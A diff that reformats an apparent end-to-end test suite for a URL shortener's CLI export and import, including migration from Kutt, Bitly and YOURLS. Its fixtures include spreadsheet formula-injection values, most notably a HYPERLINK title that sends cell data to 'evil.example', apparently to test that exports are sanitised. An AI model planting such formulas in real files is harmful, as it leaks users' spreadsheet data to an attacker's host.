@@ -22,7 +22,9 @@ async function exportedLinks(base: string, apiKey: string): Promise<Map<string, 
   const links = new Map<string, Record<string, unknown>>();
   let cursor: string | null = null;
   do {
-    const res = await fetch(`${base}/api/v1/export/links?limit=100${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`, { headers: { 'x-api-key': apiKey } });
+    const res = await fetch(`${base}/api/v1/export/links?limit=100${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`, {
+      headers: { 'x-api-key': apiKey },
+    });
     expect(res.status).toBe(200);
     const page = (await res.json()) as { links: Array<Record<string, unknown>>; nextCursor: string | null };
     for (const l of page.links) links.set(l.code as string, l);
@@ -33,12 +35,17 @@ async function exportedLinks(base: string, apiKey: string): Promise<Map<string, 
 
 const api = (base: string, apiKey: string, path: string, init: { method?: string; body?: unknown; headers?: Record<string, string> } = {}) =>
   fetch(`${base}/api/v1/links${path}`, {
-    method: init.method ?? 'GET', body: init.body === undefined ? undefined : JSON.stringify(init.body),
+    method: init.method ?? 'GET',
+    body: init.body === undefined ? undefined : JSON.stringify(init.body),
     headers: { 'content-type': 'application/json', 'x-api-key': apiKey, ...init.headers },
   });
 
 /** The CLI's stderr without its progress bar. */
-const complaints = (stderr: string) => stderr.split('\n').filter((l) => l.trim() && !l.startsWith('import |')).join('\n');
+const complaints = (stderr: string) =>
+  stderr
+    .split('\n')
+    .filter((l) => l.trim() && !l.startsWith('import |'))
+    .join('\n');
 
 async function importFile(target: Endpoints, apiKey: string, file: string, out: string, flags: string[] = []) {
   const run = await runCli('links:import', [file, '--api', target.generation, '--out', out, ...flags], apiKey);
@@ -63,19 +70,41 @@ export function describeTransferJourney(installations: () => { source: Endpoints
       const sourceKey = (await createTenant(source)).apiKey;
       const targetKey = (await createTenant(target)).apiKey;
       const full = {
-        url: 'https://example.com/full?x=1', alias: 'xfer-full', title: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', tags: ['promo', 'q3'],
-        expiresAt: '2031-01-31T12:00:00.000Z', redirectType: 301, maxClicks: 500, utm: { source: 'mail', campaign: '-launch' }, forwardQuery: false,
-        geoTargets: { DE: 'https://example.de/' }, deviceTargets: { ios: 'https://apps.apple.com/x' }, clicksPerIpPerMinute: 5,
-        variants: [{ url: 'https://example.com/a', weight: 3 }, { url: 'https://example.com/b', weight: 1 }],
+        url: 'https://example.com/full?x=1',
+        alias: 'xfer-full',
+        title: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+        tags: ['promo', 'q3'],
+        expiresAt: '2031-01-31T12:00:00.000Z',
+        redirectType: 301,
+        maxClicks: 500,
+        utm: { source: 'mail', campaign: '-launch' },
+        forwardQuery: false,
+        geoTargets: { DE: 'https://example.de/' },
+        deviceTargets: { ios: 'https://apps.apple.com/x' },
+        clicksPerIpPerMinute: 5,
+        variants: [
+          { url: 'https://example.com/a', weight: 3 },
+          { url: 'https://example.com/b', weight: 1 },
+        ],
       };
-      for (const body of [full, { url: 'https://example.com/secret', alias: 'xfer-pw', password: 'open sesame' }, { url: 'https://example.com/off', alias: 'xfer-off', title: '@SUM(1+1)' }]) {
+      for (const body of [
+        full,
+        { url: 'https://example.com/secret', alias: 'xfer-pw', password: 'open sesame' },
+        { url: 'https://example.com/off', alias: 'xfer-off', title: '@SUM(1+1)' },
+      ]) {
         expect((await api(source.generation, sourceKey, '', { method: 'POST', body })).status).toBe(201);
       }
       expect((await api(source.generation, sourceKey, '/xfer-off', { method: 'PATCH', body: { status: 'disabled' } })).status).toBe(200);
       const legacy = await postBatch(source.generation, sourceKey, [
-        JSON.stringify({ url: 'https://example.com/seven', legacyCode: '7' }) + '\n' + JSON.stringify({ url: 'https://example.com/launch', legacyCode: 'blog/2024/launch' }) + '\n',
+        JSON.stringify({ url: 'https://example.com/seven', legacyCode: '7' }) +
+          '\n' +
+          JSON.stringify({ url: 'https://example.com/launch', legacyCode: 'blog/2024/launch' }) +
+          '\n',
       ]);
-      expect(legacy.lines.map((l) => [l.status, l.link?.code])).toEqual([[201, '7'], [201, 'blog/2024/launch']]);
+      expect(legacy.lines.map((l) => [l.status, l.link?.code])).toEqual([
+        [201, '7'],
+        [201, 'blog/2024/launch'],
+      ]);
       const before = await exportedLinks(source.generation, sourceKey);
       expect(before.size).toBe(5);
 
@@ -108,7 +137,10 @@ export function describeTransferJourney(installations: () => { source: Endpoints
       const form = await redirectOf(t, 'xfer-pw', { accept: 'text/html' });
       expect([form.status, await form.text()]).toEqual([200, expect.not.stringContaining('example.com/secret')]);
       const unlocked = await fetch(`${t.redirect}/xfer-pw`, {
-        method: 'POST', redirect: 'manual', body: 'password=open+sesame', headers: { 'content-type': 'application/x-www-form-urlencoded', 'user-agent': BROWSER_UA },
+        method: 'POST',
+        redirect: 'manual',
+        body: 'password=open+sesame',
+        headers: { 'content-type': 'application/x-www-form-urlencoded', 'user-agent': BROWSER_UA },
       });
       expect([unlocked.status, unlocked.headers.get('location')]).toEqual([303, 'https://example.com/secret']);
       const variant = await redirectOf(t, 'xfer-full');
@@ -130,7 +162,9 @@ export function describeTransferJourney(installations: () => { source: Endpoints
 
       // A key that may only read gets no hashes: the export warns, and the protected link comes back disabled, saying why.
       const readOnly = await fetch(`${source.generation}/api/v1/keys`, {
-        method: 'POST', headers: { 'content-type': 'application/json', 'x-api-key': sourceKey }, body: JSON.stringify({ name: 'read-only', scopes: ['links:read'] }),
+        method: 'POST',
+        headers: { 'content-type': 'application/json', 'x-api-key': sourceKey },
+        body: JSON.stringify({ name: 'read-only', scopes: ['links:read'] }),
       });
       const readFile = join(dir, 'read-only.csv');
       const readExport = await runCli('links:export', ['--api', source.generation, '--out', readFile], ((await readOnly.json()) as { apiKey: string }).apiKey);
@@ -149,23 +183,43 @@ export function describeTransferJourney(installations: () => { source: Endpoints
       const kutt = await importFile(target, key, join(FIXTURES, 'kutt.json'), join(dir, 'kutt.results.csv'));
       expect(kutt.code).toBe(0);
       expect(kutt.results.map((r) => [r.status, r.code, r.note.split(':')[0]])).toEqual([
-        ['201', 'kutt-docs', ''], ['201', 'xK3pQ9', 'banned on Kutt'], ['201', 'kutt-third', 'password-protected on Kutt, whose link list carries no password hash'],
+        ['201', 'kutt-docs', ''],
+        ['201', 'xK3pQ9', 'banned on Kutt'],
+        ['201', 'kutt-third', 'password-protected on Kutt, whose link list carries no password hash'],
       ]);
       expect(JSON.parse(kutt.stdout)).toMatchObject({ created: 3, noted: 2 });
       const bitly = await importFile(target, key, join(FIXTURES, 'bitly.csv'), join(dir, 'bitly.results.csv'));
-      expect(bitly.results.map((r) => [r.status, r.note])).toEqual([['201', ''], ['201', ''], ['201', 'archived on Bitly: created disabled']]);
+      expect(bitly.results.map((r) => [r.status, r.note])).toEqual([
+        ['201', ''],
+        ['201', ''],
+        ['201', 'archived on Bitly: created disabled'],
+      ]);
       const links = await exportedLinks(target.generation, key);
-      expect(['kutt-docs', 'xK3pQ9', 'kutt-third', '3xYzAbC', '5mNoPqR'].map((c) => links.get(c)!.status)).toEqual(['active', 'disabled', 'disabled', 'active', 'disabled']);
+      expect(['kutt-docs', 'xK3pQ9', 'kutt-third', '3xYzAbC', '5mNoPqR'].map((c) => links.get(c)!.status)).toEqual([
+        'active',
+        'disabled',
+        'disabled',
+        'active',
+        'disabled',
+      ]);
       for (const code of ['xK3pQ9', 'kutt-third', '5mNoPqR']) expect((await redirectOf(target, code)).status).toBe(404);
 
       const plugin = await importFile(target, key, join(FIXTURES, 'yourls-plugin.csv'), join(dir, 'plugin.results.csv'));
       expect([plugin.code, plugin.stderr]).toEqual([0, '']);
-      expect(plugin.results.map((r) => [r.status, r.code])).toEqual([['201', 'launch-2024'], ['201', 'zz'], ['201', '1']]);
+      expect(plugin.results.map((r) => [r.status, r.code])).toEqual([
+        ['201', 'launch-2024'],
+        ['201', 'zz'],
+        ['201', '1'],
+      ]);
       expect((await redirectOf(target, '1')).headers.get('location')).toBe('https://example.com/yourls/first');
       expect((await redirectOf(target, 'zz')).headers.get('location')).toBe('https://example.com/yourls/zz');
 
       const table = await importFile(target, key, join(FIXTURES, 'yourls.csv'), join(dir, 'yourls.results.csv'));
-      expect(table.results.map((r) => [r.status, r.code])).toEqual([['201', 'yourls-home'], ['201', 'yourls2'], ['201', 'a']]);
+      expect(table.results.map((r) => [r.status, r.code])).toEqual([
+        ['201', 'yourls-home'],
+        ['201', 'yourls2'],
+        ['201', 'a'],
+      ]);
       const home = await api(target.generation, key, '/yourls-home');
       expect(((await home.json()) as { title: string }).title).toBe("Home & Garden '24 – café ☺ &bogus;");
       expect((await redirectOf(target, 'a')).headers.get('location')).toBe('https://example.com/yourls/short-keyword');
